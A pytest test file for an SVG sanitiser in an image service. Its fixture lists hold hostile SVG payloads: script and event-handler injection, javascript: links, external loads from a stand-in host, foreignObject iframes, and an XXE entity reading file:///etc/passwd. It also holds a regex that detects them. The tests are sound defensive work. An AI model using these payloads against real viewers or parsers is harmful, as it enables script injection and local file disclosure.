"""The promise of SVG: what a provider drew is kept raw, and shown without anything active."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from mcp import Client, MCPError
from mcp.types import TextResourceContents

from aquatint.domain.errors import BadImage
from aquatint.domain.types import ImageRecord
from aquatint.imaging.svg import sanitised
from conftest import MakeApp

HEAD = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
HARMLESS = (
    b'viewBox="0 0 9 9"><defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/>'
    b'</linearGradient></defs><path d="M0 0L5 5" fill="url(#g)" transform="rotate(3)"/>'
    b'<text x="1" y="2" font-family="Arial">Caf\xc3\xa9</text><use href="#g"/>'
    b'<image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/></svg>'
)
ACTIVE = [
    b'onload="evil()"/>',
    b"><script>evil()</script></svg>",
    b"><script xlink:href='https://evil.test/x.js'/></svg>",
    b"><a href='javascript:evil()'>x</a></svg>",
    b"><a xlink:href='&#106;avascript:evil()'>x</a></svg>",
    b"><image href='https://evil.test/track.png'/></svg>",
    b"><image href='//evil.test/track.png'/></svg>",
    b"><use href='https://evil.test/x.svg#y'/></svg>",
    b"><use href='data:image/svg+xml;base64,PHN2Zy8+#evil'/></svg>",
    b"><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='//evil.test'/>"
    b"</foreignObject></svg>",
    b"><set attributeName='onclick' to='evil()'/></svg>",
    b"><animate attributeName='href' values='javascript:evil()'/></svg>",
    b"><style>rect{fill:url(https://evil.test/a.svg#x)}</style></svg>",
    b"><rect style='fill:url(\"https://evil.test/z\")'/></svg>",
    b"><rect fill='url(http://evil.test/a#b)'/></svg>",
    b"><h:script xmlns:h='http://www.w3.org/1999/xhtml'>evil()</h:script></svg>",
    b"><handler xmlns='http://www.w3.org/2001/xml-events'>evil()</handler></svg>",
    b"><?xml-stylesheet href='https://evil.test/x.css'?></svg>",
    b"><image href='data:text/html,evil()'/></svg>",
    b"><embed src='https://evil.test'/></svg>",
]
# A script, an event, or an address that a viewer would follow.
ALIVE = re.compile(
    r"<\w*:?(script|foreignObject|iframe|embed|handler)|\son\w+=|attributeName"
    r"|(href|src)=[\"'](?!#|data:image/png)|url\((?!#)|<\?xml-stylesheet",
    re.IGNORECASE,
)
UNSHOWABLE = [
    b"no svg",
    b"<svg",
    b"<html/>",
    HEAD + b">" + b"<g>" * 50_000 + b"</g>" * 50_000 + b"</svg>",
    HEAD + b">" + b"<g/>" * 100_001 + b"</svg>",
    HEAD + b">" + b" " * 5_000_000 + b"</svg>",
    b'<!DOCTYPE svg [<!ENTITY a "evil">]>' + HEAD + b"><text>&a;</text></svg>",
    b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + HEAD + b"><text>&a;</text></svg>",
]


@pytest.mark.parametrize("body", ACTIVE)
def test_nothing_active_or_foreign_is_left(body: bytes) -> None:
    assert ALIVE.search((HEAD + body).decode())
    shown = sanitised(HEAD + body)
    assert not ALIVE.search(shown), shown
    assert "<svg" in shown


def test_a_drawing_stays_a_drawing() -> None:
    public = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">'
    shown = sanitised(public + HEAD + HARMLESS)
    for kept in ("linearGradient", 'fill="url(#g)"', "Café", 'href="#g"', "data:image/png;base64"):
        assert kept in shown


@pytest.mark.parametrize("data", UNSHOWABLE, ids=range(len(UNSHOWABLE)))
def test_what_cannot_be_judged_is_not_shown(data: bytes) -> None:
    with pytest.raises(BadImage) as refused:
        sanitised(data)
    assert "evil" not in str(refused.value)


async def test_an_svg_is_served_sanitised_as_text_and_kept_as_it_came(
    make_app: MakeApp, home: Path
) -> None:
    raw = HEAD + ACTIVE[1]
    app = make_app()
    image = ImageRecord(
        id="abcdefgh23456777",
        owner="local",
        kind="generated",
        prompt="a logo",
        format="svg",
        width=9,
        height=9,
        bytes=len(raw),
        key="logo.svg",
        sha256="",
        created=1.0,
    )
    async with app.service() as service:
        await service.context.blobs.put("logo.svg", raw)
        await service.context.catalog.add(image)
    async with Client(app.server) as client:
        (read,) = (await client.read_resource(f"image://{image.id}")).contents
        assert isinstance(read, TextResourceContents)
        assert read.mime_type == "image/svg+xml"
        assert "<svg" in read.text
        assert "evil" not in read.text
        with pytest.raises(MCPError):
            await client.read_resource(f"image://{image.id}/preview")
        told = await client.call_tool("get_image", {"image": image.id, "reply": "full"})
        assert "evil" not in told.model_dump_json()
    assert (home / "logo.svg").read_bytes() == raw
